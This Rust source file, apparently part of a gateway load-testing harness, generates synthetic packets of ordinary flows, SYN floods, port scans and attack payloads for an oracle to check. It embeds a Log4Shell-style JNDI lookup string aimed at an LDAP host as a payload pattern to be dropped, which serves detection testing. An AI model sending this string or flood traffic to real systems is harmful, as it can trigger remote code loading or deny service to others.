//! Packets of both directions, with attacks, floods and scans among them.

use super::oracle::Gateway;
use super::{DROPPED, Fate, Packet, Sent};
use crate::inputs::Inputs;
use crate::load::Generator;
use crate::oracles::ddos;
use crate::oracles::gateway::{self, SYN};
use crate::packets::{self, ATTACKS, FLOWS};
use e3_loadgen::workload::Call;
use e3_packet::{Flow, PacketBuilder, protocol};
use e3_random::Random;
use std::net::Ipv4Addr;

/// Attacks in payloads: those of all packets, and one that is dropped.
const PATTERNS: [&str; DROPPED + 1] = {
    let mut patterns = ["${jndi:ldap://198.18.0.1/a}"; DROPPED + 1];
    let mut at = 0;
    while at < ATTACKS.len() {
        patterns[at] = ATTACKS[at];
        at += 1;
    }
    patterns
};
/// One packet in so many is a scan.
const SCAN_ONE_IN: u64 = 200;
/// One packet in so many goes where no route leads.
const LOST_ONE_IN: u64 = 200;
/// Flows among which a flood's victim is: frequent ones, which have a public port soon.
const VICTIMS: u64 = 4;

/// The packets of a seed.
pub(crate) struct Packets {
    stream: packets::Packets,
    random: Random,
    rate_rps: f64,
    sent: u64,
    /// Rank of the flow to whose inside end there is a flood now.
    victim: Option<u32>,
}

impl Packets {
    pub(super) fn new(inputs: &Inputs) -> Packets {
        Packets {
            stream: packets::Packets::with(inputs.seed, &PATTERNS),
            random: Random::new(!inputs.seed),
            rate_rps: inputs.rate_rps,
            sent: 0,
            victim: None,
        }
    }

    /// A packet of a flood, if there is one now.
    fn flood(&mut self, oracle: &Gateway) -> Option<Packet> {
        if !ddos::is_time(self.sent as f64 / self.rate_rps) {
            self.victim = None;
            return None;
        }
        if self.random.below(5) >= ddos::FLOOD_OF_5 {
            return None;
        }
        let rank = match self.victim {
            Some(rank) => rank,
            // these are of TCP
            None => self.random.below(VICTIMS) as u32 * 5,
        };
        let inside = oracle.flows.of(rank);
        let (address, port) = oracle.translations.public(&gateway::inside(&inside))?;
        self.victim = Some(rank);
        let flow = Flow {
            source: gateway::outside(&mut self.random),
            source_port: 1024 + self.random.below(60_000) as u16,
            destination: address,
            destination_port: port,
            protocol: inside.protocol,
        };
        let sequence = self.random.next_u64() as u32;
        Some(Packet {
            key: gateway::key(inside.source),
            bytes: PacketBuilder::new(flow).segment(sequence, 0, SYN).build(),
            flow,
            fate: Fate::In(inside.source, inside.source_port),
            attack: None,
        })
    }

    /// A packet to a well-known port of a public address, which nobody uses.
    fn scan(&mut self) -> Packet {
        let destination = gateway::public(self.random.next_u64());
        let flow = Flow {
            source: gateway::outside(&mut self.random),
            source_port: 40_000,
            destination,
            destination_port: 1 + self.random.below(1023) as u16,
            protocol: protocol::TCP,
        };
        Packet {
            key: gateway::key(destination),
            bytes: PacketBuilder::new(flow).segment(1, 0, SYN).build(),
            flow,
            fate: Fate::Nowhere,
            attack: None,
        }
    }

    /// A packet of one of the flows: out, or back if its translation is known.
    fn ordinary(&mut self, oracle: &Gateway) -> Packet {
        let back = self.random.one_in(2);
        let lost = self.random.one_in(LOST_ONE_IN);
        let random = &mut self.random;
        let mut fate = Fate::Out;
        let mut host = Ipv4Addr::UNSPECIFIED;
        let mut flow = None;
        let sent = self.stream.next_of(|rank| {
            let out = oracle.flows.of(rank);
            host = out.source;
            let public = oracle.translations.public(&gateway::inside(&out));
            let this = match public.filter(|_| back) {
                Some((address, port)) => {
                    fate = Fate::In(out.source, out.source_port);
                    Flow {
                        destination: address,
                        destination_port: port,
                        ..out.reversed()
                    }
                }
                None if lost => {
                    let destination = gateway::outside(random);
                    if oracle.routes.next_hop(destination).is_none() {
                        fate = Fate::Nowhere;
                    }
                    Flow { destination, ..out }
                }
                None => out,
            };
            *flow.insert(this)
        });
        Packet {
            key: gateway::key(host),
            bytes: sent.bytes,
            flow: flow.expect("asked for"),
            fate,
            attack: sent.attack,
        }
    }
}

impl Generator<Gateway> for Packets {
    fn describe(&self) -> String {
        format!(
            "packets of {FLOWS} flows by Zipf's law, simple IMIX, in both directions; 1 % attacks, floods, scans"
        )
    }

    fn next(&mut self, oracle: &mut Gateway) -> Option<(Call, Sent)> {
        self.sent += 1;
        if let Some(shard) = oracle.floods.next_query() {
            return Some((ddos::query(shard), Sent::Report(shard)));
        }
        let flood = self.flood(oracle);
        let is_flood = flood.is_some();
        let packet = match flood {
            Some(flood) => flood,
            None if self.random.one_in(SCAN_ONE_IN) => self.scan(),
            None => self.ordinary(oracle),
        };
        oracle.floods.on_sent(&packet.key, is_flood);
        let call = Call {
            tag: 0,
            key: packet.key.clone(),
            payload: packet.bytes.clone(),
        };
        Some((call, Sent::Packet(packet)))
    }
}
